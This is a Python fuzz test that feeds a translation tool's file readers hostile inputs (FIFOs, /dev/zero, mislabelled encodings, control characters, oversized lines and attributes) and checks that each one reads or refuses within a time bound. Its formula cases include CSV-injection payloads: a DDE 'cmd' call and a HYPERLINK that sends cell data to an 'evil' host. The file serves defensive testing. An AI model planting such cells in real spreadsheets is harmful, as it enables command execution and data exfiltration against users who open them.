"""Fuzzing every reader with the file kinds an outside attack used: non-regular files (FIFO,
/dev/zero, a folder), unusual and mislabelled encodings, control and bidi characters,
formula-like cells, very long lines, tags with tens of thousands of attributes.

Each draw must end within a time bound, either read or refused with the reader's own error
(never another exception, never a hang); text that is read holds no control character.
"""

from __future__ import annotations

import codecs
import os
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reliability_kit import SOAK, count

from cli.qa import InputError, read_pairs
from documents.sources import SourceError, read_source
from documents.xliff_import import XliffImportError, read_xliff
from glossary.formats import plan_import
from glossary.store import GlossaryError, Termbase
from memory.tmx import TMXError, read_tmx

KO = "알리페이가 호주에 진출했다. 위어바오도 성장했다."
EN = "Alipay entered Australia. Yu'e Bao grew too."
SEEDS = {
    ".txt": f"{KO}\n\n{KO}\n",
    ".md": f"# {KO}\n\n**{KO}** [link](http://x) `code`\n",
    ".html": f'<html><head><meta charset="utf-8"></head><body><p class="a">{KO}</p></body></html>',
    ".xlf": (
        '<?xml version="1.0" encoding="UTF-8"?><xliff version="1.2" '
        'xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a" source-language="ko" '
        'target-language="en" datatype="plaintext"><body><trans-unit id="1">'
        f"<source>{KO}</source><target>{EN}</target></trans-unit></body></file></xliff>"
    ),
    ".tmx": (
        '<?xml version="1.0" encoding="UTF-8"?><tmx version="1.4"><header srclang="ko" '
        'datatype="plaintext" segtype="sentence" adminlang="en" creationtool="t" '
        'creationtoolversion="1" o-tmf="t"/><body><tu><tuv xml:lang="ko"><seg>'
        f'{KO}</seg></tuv><tuv xml:lang="en"><seg>{EN}</seg></tuv></tu></body></tmx>'
    ),
    ".csv": "ko,en\n알리페이,Alipay\n위어바오,Yu'e Bao\n",
    ".tbx": (
        '<?xml version="1.0" encoding="UTF-8"?><tbx xmlns="urn:iso:std:iso:30042:ed-2" '
        'type="TBX-Basic" style="dct" xml:lang="en"><text><body><conceptEntry id="c1">'
        '<langSec xml:lang="ko"><termSec><term>알리페이</term></termSec></langSec>'
        '<langSec xml:lang="en"><termSec><term>Alipay</term></termSec></langSec>'
        "</conceptEntry></body></text></tbx>"
    ),
    ".tsv": f'{KO}\t{EN}\n{KO}\t=HYPERLINK("http://x")\n',
}
ERRORS = {
    ".txt": SourceError, ".md": SourceError, ".html": SourceError, ".xlf": XliffImportError,
    ".tmx": TMXError, ".csv": GlossaryError, ".tbx": GlossaryError, ".tsv": InputError,
}  # fmt: skip
KINDS = ["fifo", "dev-zero", "folder", "encoding", "controls", "formula", "long-line",
         "many-attributes"]  # fmt: skip
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "cp949", "gb18030",
             "big5", "latin-1"]  # fmt: skip
CONTROLS = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1b[31m", "\x7f", "\x85",
            "\x9b", "\u202e", "\u2066", "\ufeff", "\ud7a3", "\u0301"]  # fmt: skip
# What text a reader gave back must never hold (bidi marks and BOMs are legitimate text).
_FORBIDDEN_OUT = {chr(c) for c in range(32) if chr(c) not in "\t\n\r"} | {"\x7f"}


def _read(suffix: str, path: Path, termbase: Termbase) -> list[str]:
    """Run the reader of suffix; the texts it gave back."""
    if suffix in (".txt", ".md", ".html"):
        return [read_source(path).text]
    if suffix == ".xlf":
        content = read_xliff(path)
        return [s.source for s in content.segments] + [s.target for s in content.segments]
    if suffix == ".tmx":
        units, _skipped = read_tmx(path)
        return [text for unit in units for text in (unit.source, unit.target)]
    if suffix in (".csv", ".tbx"):
        plan = plan_import(termbase, path)
        return [term.text for concept in plan.added for term in concept.terms]
    return [text for _, source, target in read_pairs(path) for text in (source, target)]


@st.composite
def hostile_files(draw):
    suffix = draw(st.sampled_from(sorted(SEEDS)), label="reader")
    kind = draw(st.sampled_from(KINDS), label="kind")
    text = SEEDS[suffix]
    encoding = "utf-8"
    if kind == "encoding":
        encoding = draw(st.sampled_from(ENCODINGS), label="encoding")
        if draw(st.booleans(), label="mislabel") and "UTF-8" in text:
            text = text.replace("UTF-8", draw(st.sampled_from(["UTF-16", "ISO-8859-1", "EUC-KR"])))
    elif kind == "controls":
        for _ in range(draw(st.integers(1, 5), label="how many")):
            at = draw(st.integers(0, len(text)), label="at")
            text = text[:at] + draw(st.sampled_from(CONTROLS), label="control") + text[at:]
    elif kind == "formula":
        cell = draw(st.sampled_from(["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                     '=HYPERLINK("http://evil/?"&A1)']), label="cell")  # fmt: skip
        text = text.replace("Alipay", cell, 1).replace(EN, cell, 1)
    elif kind == "long-line":
        size = draw(st.sampled_from([100_000, 400_000, 1_000_000]), label="size")
        text = text.replace(KO, (KO + " ") * (size // len(KO.encode())), 1)
    elif kind == "many-attributes":
        count_ = draw(st.sampled_from([5_000, 40_000, 100_000]), label="attributes")
        attributes = " ".join(f'a{i}="v"' for i in range(count_))
        tag = next((t for t in ("<p ", "<source>", "<seg>", "<term>", "<body>") if t in text),
                   None)  # fmt: skip
        if tag is not None:
            text = text.replace(tag, f"{tag.rstrip('>').rstrip()} {attributes}>", 1)
    data = text.encode(encoding, errors="replace")
    if encoding in ("utf-32", "utf-16") and draw(st.booleans(), label="strip BOM"):
        data = data[len(codecs.BOM_UTF32) if encoding == "utf-32" else 2 :]
    return suffix, kind, data


EXAMPLES = settings(
    max_examples=1500 if SOAK else 80, derandomize=not SOAK, deadline=None, database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture,
                           HealthCheck.data_too_large],
)  # fmt: skip


@pytest.mark.timeout(900)
@EXAMPLES
@given(case=hostile_files())
def test_every_reader_reads_or_refuses_in_bounded_time(case, tmp_path_factory):
    suffix, kind, data = case
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / f"input{suffix}"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "folder":
        path.mkdir()
    else:
        path.write_bytes(data)
    termbase = Termbase(folder / "glossary.db")
    start = time.perf_counter()
    try:
        texts = _read(suffix, path, termbase)
        outcome = "imported"
    except ERRORS[suffix] as error:
        assert str(error), "a refusal must say why"
        texts, outcome = [], "refused"
    finally:
        termbase.close()
    seconds = time.perf_counter() - start
    assert seconds < 15, f"{suffix} {kind}: {seconds:.1f} s"
    if kind in ("fifo", "dev-zero", "folder"):
        assert outcome == "refused", f"{suffix}: a {kind} was read"
    leaked = sorted({c for t in texts for c in t if c in _FORBIDDEN_OUT})
    assert not leaked, f"{suffix} {kind}: control characters reached the text: {leaked!r}"
    count(f"hostile kinds: {kind}", outcome)
